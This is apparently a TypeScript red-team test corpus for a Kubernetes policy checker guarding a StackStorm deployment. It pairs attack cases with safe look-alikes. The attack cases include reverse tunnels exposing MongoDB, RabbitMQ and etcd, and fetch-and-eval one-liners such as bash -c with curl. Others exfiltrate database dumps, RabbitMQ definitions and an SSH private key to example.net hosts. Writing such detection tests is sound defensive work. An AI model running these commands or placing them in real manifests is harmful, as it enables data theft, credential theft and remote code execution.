/**
 * The fourteenth red team's misses this piece closes (test/attackers/red14),
 * rewritten as patches over prod with variants and safe look-alikes:
 *
 * - reverse tunnels the agent list did not know (ST2-OPS-008,
 *   policies/operations_access.rego tunnel_ctr): chisel `R:` by its image
 *   (jpillora/chisel runs /app/bin), gost `rtcp://`, wstunnel `-R`,
 *   inlets-pro, localtunnel (`npx localtunnel`, `lt`), pagekite and a
 *   rathole client beside MongoDB, RabbitMQ or etcd; a chisel, gost or
 *   wstunnel reverse forward to a server inside the cluster, and a local
 *   forward, pass;
 * - an Envoy socket_address (`address: mongodb, port_value: 27017`, flow,
 *   block or JSON) behind a public LoadBalancer (ST2-EXP-006,
 *   src/policy/proxy-hosts.ts); Envoy in front of st2api, or MongoDB behind
 *   a ClusterIP, passes;
 * - code fetched at start and run without a pipe or a file (ST2-SEC-019,
 *   src/policy/fetch-eval.ts): python exec of urlopen or requests, node
 *   fetch then eval, perl eval of HTTP::Tiny, python printing into sh,
 *   `bash -c "$(curl …)"`, eval of a backquoted wget, `source <(curl …)`,
 *   in an init container or a postStart hook; a download from the cluster,
 *   a commit URL, `bash -c "$(cat …)"`, `curl -o` then `sha256sum -c`, an
 *   echo of a download, python requests to st2api pass;
 * - an unpinned `git clone` into the packs volume from the st2actionrunner
 *   image (ST2-SEC-024, as `st2 pack install` of a branch); a version tag,
 *   a clone then a commit checked out, a clone outside the packs pass;
 * - store data and st2's SSH key sent by programs the send list did not know
 *   (ST2-SEC-016): mongodump piped into mongorestore at an outside --uri or
 *   --host, rclone rcat to an inline sftp remote or a named remote, python
 *   reading RabbitMQ's definitions with the admin password and POSTing them
 *   out, an ssh config's ProxyCommand (st2's Paramiko runner runs it with
 *   `[ssh_runner] use_ssh_config`) posting stanley's key; a copy into the
 *   cluster, an inline MinIO remote in the cluster, the local API read, a
 *   bastion ProxyCommand pass.
 */
import type { RedTeamCase } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { DEPLOY, ST2_CONF, STS, patch, SPEC, userConf } from './targets.js';

const LIMITS = { requests: { cpu: '5m', memory: '8Mi' }, limits: { cpu: '50m', memory: '32Mi' } };
const LOCKED = { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, runAsNonRoot: true, runAsUser: 65534, readOnlyRootFilesystem: true };

/** A sidecar running `command` added to a store's StatefulSet (rabbitmq, mongodb, etcd). */
const sidecar = (store: string, image: string, command: string[], env?: unknown[]): CaseBody => ({
  patches: [patch(STS(store), { op: 'add', path: `${SPEC}/containers/-`, value: { name: 'tun', image, command, resources: LIMITS, securityContext: LOCKED, ...(env ? { env } : {}) } })],
});

const sh = (script: string): string[] => ['sh', '-c', script];

const RUNNER = 'stackstorm/st2actionrunner:3.8.1';
const CURL = 'buildpack-deps:bookworm-curl';

/** An init container of st2actionrunner running `command`, the shared packs volume mounted when asked. */
const runnerInit = (image: string, command: string[], packs = false): CaseBody => ({
  patches: [
    patch(DEPLOY('st2actionrunner'), {
      op: 'add',
      path: `${SPEC}/initContainers/-`,
      value: { name: 'boot', image, command, resources: LIMITS, securityContext: LOCKED, ...(packs ? { volumeMounts: [{ name: 'st2-packs-vol', mountPath: '/opt/stackstorm/packs-shared' }] } : {}) },
    }),
  ],
});

/** env U and P from the MongoDB admin Secret (its ExternalSecret's keys: user, password); P from RabbitMQ's. */
const ADMIN = [
  { name: 'U', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'user' } } },
  { name: 'P', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } },
];
const RABBIT = [{ name: 'P', valueFrom: { secretKeyRef: { name: 'rabbitmq', key: 'rabbitmq-password' } } }];

/** st2's Paramiko runner told to use an ssh config (st2-config key ssh_config, mounted into the runner) with this ProxyCommand. */
const proxyConfig = (command: string): CaseBody => ({
  patches: [
    patch(ST2_CONF, { op: 'add', path: '/data/ssh_config', value: `Host *\n  ProxyCommand ${command}\n` }),
    userConf('[ssh_runner]', 'use_ssh_config = True', 'ssh_config_file_path = /etc/st2/ssh_config'),
    patch(DEPLOY('st2actionrunner'), { op: 'add', path: `${SPEC}/containers/0/volumeMounts/-`, value: { name: 'st2-config-vol', mountPath: '/etc/st2/ssh_config', subPath: 'ssh_config' } }),
  ],
});

/** An Envoy Deployment with this config, behind a Service of the given type on 27017. */
const envoy = (config: string, type: 'LoadBalancer' | 'ClusterIP'): CaseBody => ({
  resources: [
    { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'edge-envoy' }, data: { 'envoy.yaml': config } },
    {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'edge-envoy' },
      spec: {
        replicas: 1,
        selector: { matchLabels: { app: 'edge-envoy' } },
        template: {
          metadata: { labels: { app: 'edge-envoy' } },
          spec: {
            containers: [
              {
                name: 'envoy',
                image: 'envoyproxy/envoy:v1.30.2',
                args: ['-c', '/etc/envoy/envoy.yaml'],
                volumeMounts: [{ name: 'conf', mountPath: '/etc/envoy' }],
                resources: { requests: { cpu: '50m', memory: '64Mi' }, limits: { cpu: '500m', memory: '512Mi' } },
              },
            ],
            volumes: [{ name: 'conf', configMap: { name: 'edge-envoy' } }],
          },
        },
      },
    },
    { apiVersion: 'v1', kind: 'Service', metadata: { name: 'edge-envoy' }, spec: { type, selector: { app: 'edge-envoy' }, ports: [{ port: 27017, targetPort: 9000 }] } },
  ],
});

const LISTENER = [
  'static_resources:',
  '  listeners:',
  '  - address: {socket_address: {address: 0.0.0.0, port_value: 9000}}',
  '    filter_chains:',
  '    - filters:',
  '      - name: envoy.filters.network.tcp_proxy',
  '        typed_config:',
  '          "@type": type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy',
  '          stat_prefix: up',
  '          cluster: up',
  '  clusters:',
  '  - name: up',
  '    type: STRICT_DNS',
  '    load_assignment:',
  '      cluster_name: up',
  '      endpoints:',
  '      - lb_endpoints:',
];
const flowEndpoint = (host: string, port: number): string => [...LISTENER, `        - endpoint: {address: {socket_address: {address: ${host}, port_value: ${port}}}}`, ''].join('\n');
const blockEndpoint = (host: string, port: number): string =>
  [...LISTENER, '        - endpoint:', '            address:', '              socket_address:', `                address: ${host}`, `                port_value: ${port}`, ''].join('\n');
const jsonEndpoint = (host: string, port: number): string =>
  JSON.stringify({ static_resources: { clusters: [{ name: 'up', type: 'STRICT_DNS', load_assignment: { cluster_name: 'up', endpoints: [{ lb_endpoints: [{ endpoint: { address: { socket_address: { address: host, port_value: port } } } }] }] } }] } }, null, 1);

export function fresh14Red14aCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  let cls: RedTeamCase['cls'] = 'exposure';
  const add = (id: string, rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f14a-${id}`, cls, rule, body));
  };

  // --- reverse tunnels from a store's pod (ST2-OPS-008) ----------------------------------------------
  add('chisel-image-reverse-rabbit', 'ST2-OPS-008', sidecar('rabbitmq', 'jpillora/chisel:1.9.1', ['/app/bin', 'client', 'https://relay.example.net', 'R:5672:localhost:5672']));
  add('chisel-named-reverse-mongo', 'ST2-OPS-008', sidecar('mongodb', 'alpine:3.20', sh('chisel client relay.example.net:443 R:0.0.0.0:27017:127.0.0.1:27017')));
  add('gost-rtcp-etcd', 'ST2-OPS-008', sidecar('etcd', 'gogost/gost:3.0.0', ['gost', '-L', 'rtcp://:2379/localhost:2379', '-F', 'relay+tls://relay.example.net:8443']));
  add('wstunnel-reverse-mongo', 'ST2-OPS-008', sidecar('mongodb', 'ghcr.io/erebe/wstunnel:v10.1.0', ['wstunnel', 'client', '-R', 'tcp://0.0.0.0:27017:localhost:27017', 'wss://relay.example.net']));
  add('inlets-pro-mongo', 'ST2-OPS-008', sidecar('mongodb', 'ghcr.io/inlets/inlets-pro:0.9.28', ['inlets-pro', 'tcp', 'client', '--url', 'wss://exit.example.net:8123', '--upstream', 'localhost', '--port', '27017']));
  add('npx-localtunnel-rabbit-mgmt', 'ST2-OPS-008', sidecar('rabbitmq', 'node:20-slim', ['npx', '-y', 'localtunnel', '--port', '15672']));
  add('lt-rabbit-mgmt', 'ST2-OPS-008', sidecar('rabbitmq', 'node:20-slim', ['lt', '--port', '15672', '--subdomain', 'st2mq']));
  add('pagekite-rabbit-mgmt', 'ST2-OPS-008', sidecar('rabbitmq', 'python:3.11-slim', sh('pip install pagekite && pagekite.py 15672 st2mq.pagekite.me')));
  add(
    'rathole-client-rabbit',
    'ST2-OPS-008',
    sidecar('rabbitmq', 'rapiz1/rathole:v0.5.0', sh('printf \'[client]\\nremote_addr = "relay.example.net:2333"\\n[client.services.mq]\\ntoken = "t"\\nlocal_addr = "127.0.0.1:5672"\\n\' > /tmp/c.toml && rathole /tmp/c.toml')),
  );
  // Look-alikes: a reverse forward to a relay inside the cluster, a local forward out.
  add('safe-chisel-reverse-in-cluster', undefined, sidecar('rabbitmq', 'jpillora/chisel:1.9.1', ['/app/bin', 'client', 'http://chisel.tools.svc.cluster.local:8080', 'R:5672:localhost:5672']));
  add('safe-wstunnel-reverse-in-cluster', undefined, sidecar('mongodb', 'ghcr.io/erebe/wstunnel:v10.1.0', ['wstunnel', 'client', '-R', 'tcp://0.0.0.0:27017:localhost:27017', 'ws://wstunnel.tools.svc:8080']));
  add('safe-gost-local-forward', undefined, sidecar('etcd', 'gogost/gost:3.0.0', ['gost', '-L', 'tcp://:9100/metrics.example.net:9100']));

  // --- Envoy socket_address behind a public LoadBalancer (ST2-EXP-006) ------------------------------
  add('envoy-flow-mongo-lb', 'ST2-EXP-006', envoy(flowEndpoint('mongodb', 27017), 'LoadBalancer'));
  add('envoy-block-mongo-lb', 'ST2-EXP-006', envoy(blockEndpoint('mongodb-0.mongodb', 27017), 'LoadBalancer'));
  add('envoy-json-rabbit-lb', 'ST2-EXP-006', envoy(jsonEndpoint('rabbitmq', 5672), 'LoadBalancer'));
  add('safe-envoy-st2api-clusterip', undefined, envoy(flowEndpoint('st2api', 9101), 'ClusterIP'));
  add('safe-envoy-mongo-clusterip', undefined, envoy(blockEndpoint('mongodb', 27017), 'ClusterIP'));

  // --- code fetched at start and run without a pipe or a file (ST2-SEC-019) -------------------------
  cls = 'delivery';
  const GIST = 'https://gist.githubusercontent.com/ops-snippets/5f2c/raw';
  add('py-exec-urlopen', 'ST2-SEC-019', runnerInit('python:3.11-slim', ['python3', '-c', `exec(__import__('urllib.request').request.urlopen('${GIST}/boot.py').read())`]));
  add('st2-python-exec-requests', 'ST2-SEC-019', runnerInit(RUNNER, ['/opt/stackstorm/st2/bin/python', '-c', `import requests; exec(requests.get('${GIST}/boot.py').text)`]));
  add('node-fetch-eval', 'ST2-SEC-019', runnerInit('node:20-slim', ['node', '-e', `fetch('${GIST}/boot.js').then(r=>r.text()).then(eval)`]));
  add('perl-http-tiny-eval', 'ST2-SEC-019', runnerInit('perl:5.38', ['perl', '-MHTTP::Tiny', '-e', `eval HTTP::Tiny->new->get("${GIST}/boot.pl")->{content}`]));
  add('py-print-into-sh', 'ST2-SEC-019', runnerInit('python:3.11-slim', sh(`python3 -c "import urllib.request as u;print(u.urlopen('${GIST}/boot.sh').read().decode())" | sh`)));
  add('bash-c-curl-subst', 'ST2-SEC-019', runnerInit(CURL, ['bash', '-c', 'bash -c "$(curl -fsSL https://raw.githubusercontent.com/ops-snippets/boot/main/setup.sh)"']));
  add('eval-wget-backquotes', 'ST2-SEC-019', runnerInit(CURL, sh('eval "`wget -qO- http://tools.example.net/env.sh`"')));
  add('source-curl-procsub', 'ST2-SEC-019', runnerInit(CURL, ['bash', '-c', 'source <(curl -fsSL https://raw.githubusercontent.com/ops-snippets/boot/main/env.sh)']));
  add('poststart-python-exec', 'ST2-SEC-019', {
    patches: [patch(DEPLOY('st2actionrunner'), { op: 'add', path: `${SPEC}/containers/0/lifecycle`, value: { postStart: { exec: { command: ['/opt/stackstorm/st2/bin/python', '-c', `import urllib.request as u; exec(u.urlopen('${GIST}/hook.py').read())`] } } } })],
  });
  // Look-alikes: a download from the cluster, pinned or checked, saved and checked, or not run.
  add('safe-py-exec-in-cluster', undefined, runnerInit(RUNNER, ['/opt/stackstorm/st2/bin/python', '-c', "import requests; exec(requests.get('http://pack-tools.st2-prod.svc:8080/boot.py').text)"]));
  add('safe-py-requests-local-api', undefined, runnerInit(RUNNER, ['/opt/stackstorm/st2/bin/python', '-c', "import requests; print(requests.get('http://st2api:9101/api/v1/').status_code)"]));
  add('safe-py-exec-commit-url', undefined, runnerInit('python:3.11-slim', ['python3', '-c', "exec(__import__('urllib.request').request.urlopen('https://raw.githubusercontent.com/ops-snippets/boot/0123456789abcdef0123456789abcdef01234567/boot.py').read())"]));
  add('safe-bash-c-cat', undefined, runnerInit(RUNNER, ['bash', '-c', 'bash -c "$(cat /opt/stackstorm/packs-shared/.init.sh 2>/dev/null || true)"']));
  add('safe-curl-o-sha256sum', undefined, runnerInit(CURL, sh('curl -fsSLo /tmp/t.sh https://get.example.net/t.sh && echo "0f3c2a6b1d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a  /tmp/t.sh" | sha256sum -c - && sh /tmp/t.sh')));
  add('safe-echo-curl-subst', undefined, runnerInit(CURL, sh('echo "egress: $(curl -s https://ifconfig.example.net)"')));

  // --- an unpinned clone into the packs volume (ST2-SEC-024) ----------------------------------------
  add('git-clone-st2-image', 'ST2-SEC-024', runnerInit(RUNNER, ['git', 'clone', '--depth=1', 'https://github.com/ops-snippets/stackstorm-helpers.git', '/opt/stackstorm/packs-shared/helpers'], true));
  add('git-clone-main-branch', 'ST2-SEC-024', runnerInit(RUNNER, sh('git clone -b main https://github.com/ops-snippets/stackstorm-helpers.git /opt/stackstorm/packs-shared/helpers'), true));
  add('safe-git-clone-tag', undefined, runnerInit(RUNNER, ['git', 'clone', '--depth=1', '--branch', 'v1.4.2', 'https://github.com/ops-snippets/stackstorm-helpers.git', '/opt/stackstorm/packs-shared/helpers'], true));
  add('safe-git-clone-then-commit', undefined, runnerInit(RUNNER, sh('git clone https://github.com/ops-snippets/stackstorm-helpers.git /opt/stackstorm/packs-shared/helpers && git -C /opt/stackstorm/packs-shared/helpers checkout 0123456789abcdef0123456789abcdef01234567'), true));
  add('safe-git-clone-no-packs', undefined, runnerInit(RUNNER, ['git', 'clone', '--depth=1', 'https://github.com/ops-snippets/runbooks.git', '/tmp/runbooks']));

  // --- store data and st2's keys sent out by programs the send list did not know (ST2-SEC-016) -----
  cls = 'secrets';
  add('mongodump-into-outside-mongorestore', 'ST2-SEC-016', sidecar('mongodb', 'mongo:4.4.29', sh('while true; do mongodump --archive -u "$U" -p "$P" --authenticationDatabase admin | mongorestore --archive --uri mongodb://copy.example.net:27017; sleep 86400; done'), ADMIN));
  add('mongodump-into-mongorestore-host', 'ST2-SEC-016', sidecar('mongodb', 'mongo:4.4.29', sh('mongodump --archive -u "$U" -p "$P" | mongorestore --archive --host rs1/db1.example.net:27017,db2.example.net:27017; sleep infinity'), ADMIN));
  add('mongodump-rclone-rcat-sftp', 'ST2-SEC-016', sidecar('mongodb', 'mongo:4.4.29', sh('mongodump -u "$U" -p "$P" --archive --gzip | rclone rcat ":sftp,host=files.example.net,user=u,pass=p:st2.gz"; sleep infinity'), ADMIN));
  add('mongodump-rclone-rcat-named-remote', 'ST2-SEC-016', sidecar('mongodb', 'mongo:4.4.29', sh('mongodump -u "$U" -p "$P" --archive | rclone rcat offsite:st2/dump.archive; sleep infinity'), ADMIN));
  add(
    'python-rabbit-definitions-posted',
    'ST2-SEC-016',
    sidecar('rabbitmq', 'python:3.11-slim', ['python3', '-c', "import urllib.request,base64,os\nr=urllib.request.Request('http://localhost:15672/api/definitions',headers={'Authorization':'Basic '+base64.b64encode(('admin:'+os.environ['P']).encode()).decode()})\nurllib.request.urlopen('https://collect.example.net/in', data=urllib.request.urlopen(r).read())\n"], RABBIT),
  );
  add('ssh-config-proxycommand-posts-key', 'ST2-SEC-016', proxyConfig("python3 -c \"import urllib.request as u,sys;u.urlopen('https://collect.example.net/k',open('/home/stanley/.ssh/stanley_rsa','rb').read())\" %h %p"));
  add('ssh-config-proxycommand-curl-key', 'ST2-SEC-016', proxyConfig('curl -s -T /home/stanley/.ssh/stanley_rsa https://collect.example.net/k'));
  // Look-alikes: a copy into the cluster, a dump to a volume, the local API read, a bastion ProxyCommand.
  add('safe-mongodump-into-cluster-mongorestore', undefined, sidecar('mongodb', 'mongo:4.4.29', sh('mongodump --archive -u "$U" -p "$P" | mongorestore --archive --uri mongodb://mongodb-restore-test.st2-prod.svc:27017; sleep infinity'), ADMIN));
  add('safe-rclone-inline-in-cluster', undefined, sidecar('mongodb', 'mongo:4.4.29', sh('mongodump -u "$U" -p "$P" --archive | rclone rcat ":s3,provider=Minio,endpoint=http://minio.st2-prod.svc:9000:st2/dump.archive"; sleep infinity'), ADMIN));
  add('safe-python-reads-rabbit-api', undefined, sidecar('rabbitmq', 'python:3.11-slim', ['python3', '-c', "import urllib.request,base64,os\nr=urllib.request.Request('http://localhost:15672/api/overview',headers={'Authorization':'Basic '+base64.b64encode(('admin:'+os.environ['P']).encode()).decode()})\nopen('/tmp/overview.json','wb').write(urllib.request.urlopen(r).read())\n"], RABBIT));
  add('safe-ssh-config-bastion', undefined, proxyConfig('ssh -W %h:%p -i /home/stanley/.ssh/stanley_rsa stanley@bastion.example.net'));
  return cases;
}
